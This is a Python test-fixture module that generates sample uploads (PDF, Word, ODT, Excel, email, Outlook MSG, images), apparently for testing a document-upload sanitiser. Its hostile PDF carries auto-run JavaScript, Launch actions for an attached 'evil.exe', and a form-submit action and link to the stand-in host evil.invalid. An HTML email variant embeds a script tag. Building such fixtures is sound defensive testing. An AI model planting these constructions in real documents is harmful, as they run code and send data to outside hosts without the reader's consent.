"""Files of each kind that may be uploaded, made here letter by letter; a few of them hostile. All say `WORDS`."""

from __future__ import annotations

import io
import struct
import zipfile
from datetime import date
from email.message import EmailMessage
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw

from tvist.documents.uploads import MediaType
from tvist.pdf import Document, heading, page_break, prose, render

WORDS = "Blåbærøya: kommunen dekket opphold i fosterhjem."
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@cache
def a_pdf(pages: int = 2, words: str = WORDS) -> bytes:
    """So many pages, each with the words and its number."""
    document = Document(
        title="Vedtak", language="nb", reference="", short_title="Vedtak", made_on=date(2026, 1, 5), marked_as_invented=True
    )
    blocks = []
    for page in range(1, pages + 1):
        blocks += [heading(f"Side {page} av vedtaket"), prose(words), page_break()]
    return render(document, blocks[:-1])


def a_hostile_pdf() -> bytes:
    """It runs scripts when it is opened, starts programs, sends forms, carries a file, fetches another; one link leads within it."""
    with pikepdf.open(io.BytesIO(a_pdf())) as pdf:
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert('evil')"))
        pdf.Root.OpenAction = script
        pdf.Root.AA = Dictionary(WC=script)
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("evil"), script])))
        pdf.attachments["evil.exe"] = b"MZ evil"
        first = pdf.pages[0].obj
        first.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("evil.exe")))
        launch = Dictionary(S=Name.Launch, F=String("evil.exe"))
        submit = Dictionary(S=Name.SubmitForm, F=String("https://evil.invalid/"))
        within = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]))
        links = [
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([100, 100 + 30 * row, 200, 120 + 30 * row]), A=action)
            for row, action in enumerate((launch, submit, within, Dictionary(S=Name.URI, URI=String("https://evil.invalid/"))))
        ]
        first.Annots = Array([pdf.make_indirect(link) for link in links])
        for stream in (thing for thing in pdf.objects if isinstance(thing, pikepdf.Stream)):
            stream["/AF"] = Array([Dictionary(EF=Dictionary(F=pdf.make_stream(b"evil")))])
            break
        return _saved(pdf)


def a_turned_pdf(*, rotate: int, box: tuple[int, int, int, int] = (0, 0, 300, 500)) -> bytes:
    """One page that says its words, turned clockwise, with that box."""
    with pikepdf.open(io.BytesIO(a_pdf(1))) as pdf:
        page = pdf.pages[0].obj
        page.Rotate = rotate
        page.MediaBox = Array(box)
        return _saved(pdf)


def a_locked_pdf() -> bytes:
    """Nobody opens it without the word."""
    with pikepdf.open(io.BytesIO(a_pdf(1))) as pdf:
        written = io.BytesIO()
        pdf.save(written, encryption=pikepdf.Encryption(owner="eier", user="bruker"))
        return written.getvalue()


def _saved(pdf: pikepdf.Pdf) -> bytes:
    written = io.BytesIO()
    pdf.save(written)
    return written.getvalue()


def a_picture(
    kind: MediaType, *, size: tuple[int, int] = (600, 400), mode: str = "RGB", turned: int = 1, pages: int = 1
) -> bytes:
    """A picture with a dark corner at its upper left; `turned` as a camera says it (EXIF orientation)."""
    picture = Image.new(mode, size, "white" if mode != "RGBA" else (255, 255, 255, 0))
    ImageDraw.Draw(picture).rectangle((0, 0, size[0] // 4, size[1] // 4), fill="black")
    exif = Image.Exif()
    exif[0x0112] = turned
    written = io.BytesIO()
    more = {"save_all": True, "append_images": [picture] * (pages - 1)} if kind is MediaType.TIFF else {}
    picture.save(written, kind.value.upper(), exif=exif, **more)
    return written.getvalue()


def zipped(parts: dict[str, str]) -> bytes:
    """The parts as a zip file."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, text in parts.items():
            packed.writestr(name, text)
    return written.getvalue()


def a_docx(words: str = WORDS, before: str = "") -> bytes:
    """A paragraph, a table of two cells, and what was deleted from it; `before` stands before the document."""
    body = (
        f"<w:p><w:r><w:t>{words}</w:t></w:r><w:del><w:r><w:delText>strøket</w:delText></w:r></w:del></w:p>"
        "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>Døgn</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>12</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
    )
    return zipped(
        {
            "[Content_Types].xml": '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
            "word/document.xml": f'<?xml version="1.0"?>{before}<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>',
        }
    )


def an_odt(words: str = WORDS) -> bytes:
    """A heading, a paragraph with two spaces, a table, and what was deleted."""
    space = "urn:oasis:names:tc:opendocument:xmlns"
    return zipped(
        {
            "mimetype": MediaType.ODT.mime,
            "content.xml": f'<o:c xmlns:o="{space}:office:1.0" xmlns:t="{space}:text:1.0" xmlns:b="{space}:table:1.0">'
            "<t:tracked-changes><t:p>strøket</t:p></t:tracked-changes>"
            f'<t:h>Krav</t:h><t:p>{words}<t:s t:c="2"/>Slutt.</t:p>'
            "<b:table><b:table-row><b:table-cell><t:p>Døgn</t:p></b:table-cell><b:table-cell><t:p>12</t:p></b:table-cell></b:table-row></b:table></o:c>",
        }
    )


def an_xlsx(words: str = WORDS) -> bytes:
    """A sheet `Regnskap`: the words, a number, a day."""
    rows = '<row><c t="s"><v>0</v></c><c><v>12.5</v></c><c s="1"><v>45352</v></c></row><row><c t="inlineStr"><is><t>Døgn</t></is></c></row>'
    return zipped(
        {
            "[Content_Types].xml": '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
            "xl/workbook.xml": f'<workbook xmlns="{_SHEET}" xmlns:r="{_LINKS}"><sheets><sheet name="Regnskap" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": '<Relationships><Relationship Id="r1" Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/sharedStrings.xml": f'<sst xmlns="{_SHEET}"><si><t>{words}</t></si></sst>',
            "xl/styles.xml": f'<styleSheet xmlns="{_SHEET}"><cellStyleXfs><xf numFmtId="14"/></cellStyleXfs><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>',
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_SHEET}"><sheetData>{rows}</sheetData></worksheet>',
        }
    )


def an_eml(words: str = WORDS, *, html: bool = False) -> bytes:
    """A mail from Asta to Bo, with one attachment."""
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "Åsta Vik <asta@vik.invalid>", "bo@vest.invalid", "Spørsmål om oppholdet"
    mail["Date"] = "Mon, 02 Mar 2026 12:00:00 +0100"
    if html:
        mail.set_content(f"<p>{words}</p><script>evil()</script>", subtype="html")
    else:
        mail.set_content(words)
    mail.add_attachment(b"x", maintype="application", subtype="pdf", filename="Vedlegg.pdf")
    return mail.as_bytes()


def a_msg(words: str = WORDS) -> bytes:
    """The same as Outlook keeps it: a compound file with a stream for each property."""
    texts = {0x0037: "Spørsmål om oppholdet", 0x1000: words, 0x0C1A: "Åsta Vik", 0x0C1F: "asta@vik.invalid"}
    properties = bytes(32) + b"".join(struct.pack("<HHIII", 0x001F, pid, 6, 2 * len(text) + 2, 0) for pid, text in texts.items())
    streams = {"__properties_version1.0": properties}
    streams |= {f"__substg1.0_{pid:04X}001F": text.encode("utf-16-le") for pid, text in texts.items()}
    return _compound(streams)


def _compound(streams: dict[str, bytes]) -> bytes:
    """A compound file (CFB) with small streams in its root: a sector of FAT, the directory, the small FAT, and the small sectors."""
    end, free, fat_mark = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    small, starts, chain = b"", [], []
    for content in streams.values():
        count = -(-len(content) // 64)
        starts.append(len(chain))
        chain += [*range(len(chain) + 1, len(chain) + count), end]
        small += content.ljust(count * 64, b"\0")
    directory = [_directory_entry("Root Entry", 5, child=1, start=0, size=len(small))]
    for place, (name, content) in enumerate(streams.items(), start=1):
        following = place + 1 if place < len(streams) else free
        directory.append(_directory_entry(name, 2, right=following, start=starts[place - 1], size=len(content)))
    while len(directory) % 4:
        directory.append(_directory_entry("", 0))
    directory_sectors, small_sectors = len(directory) // 4, -(-len(small) // 512)
    # Sector 0 is the FAT, 1 the small FAT, then the directory, then the small streams.
    first_small = 2 + directory_sectors
    directory[0] = _directory_entry("Root Entry", 5, child=1, start=first_small, size=len(small))
    fat = [fat_mark, end]
    for first, count in ((2, directory_sectors), (first_small, small_sectors)):
        fat += [*range(first + 1, first + count), end]
    header = struct.pack("<8s16sHHHHH6sIIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"", 0x3E, 3, 0xFFFE, 9, 6, b"",
                         0, 1, 2, 0, 4096, 1, 1, end, 0, 0)  # fmt: skip
    header = (header + struct.pack("<I", free) * 108).ljust(512, b"\xff")
    table = struct.pack("<128I", *(fat + [free] * (128 - len(fat))))
    small_table = struct.pack("<128I", *(chain + [free] * (128 - len(chain))))
    return header + table + small_table + b"".join(directory) + small.ljust(small_sectors * 512, b"\0")


def _directory_entry(
    name: str, kind: int, *, right: int = 0xFFFFFFFF, child: int = 0xFFFFFFFF, start: int = 0, size: int = 0
) -> bytes:
    spelled = name.encode("utf-16-le") + b"\0\0" if name else b""
    return struct.pack(
        "<64sHBBIII16sI8s8sIQ", spelled, len(spelled), kind, 1, 0xFFFFFFFF, right, child, b"", 0, b"", b"", start, size
    )


FILES = {
    MediaType.PDF: a_pdf,
    MediaType.DOCX: a_docx,
    MediaType.ODT: an_odt,
    MediaType.XLSX: an_xlsx,
    MediaType.TXT: lambda: f"{WORDS}\r\n\r\nSlutt.".encode("cp1252"),
    MediaType.EML: an_eml,
    MediaType.MSG: a_msg,
    MediaType.PNG: lambda: a_picture(MediaType.PNG),
    MediaType.JPEG: lambda: a_picture(MediaType.JPEG),
    MediaType.TIFF: lambda: a_picture(MediaType.TIFF, pages=2),
}
